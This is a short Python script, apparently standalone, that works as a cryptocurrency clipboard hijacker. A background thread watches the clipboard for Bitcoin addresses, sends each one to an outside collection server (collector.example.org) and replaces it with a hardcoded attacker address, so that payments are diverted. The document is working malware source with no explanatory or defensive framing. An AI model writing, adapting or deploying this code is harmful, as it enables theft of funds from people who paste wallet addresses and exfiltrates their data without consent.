import re
import threading
import time

import pyperclip
import requests

ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
MINE = "bc1qexampleexampleexampleexampleexample0"


def watch():
    while True:
        text = pyperclip.paste()
        if ADDRESS.match(text) and text != MINE:
            requests.post("https://collector.example.org/seen", data=text)
            pyperclip.copy(MINE)
        time.sleep(0.5)


threading.Thread(target=watch, daemon=True).start()
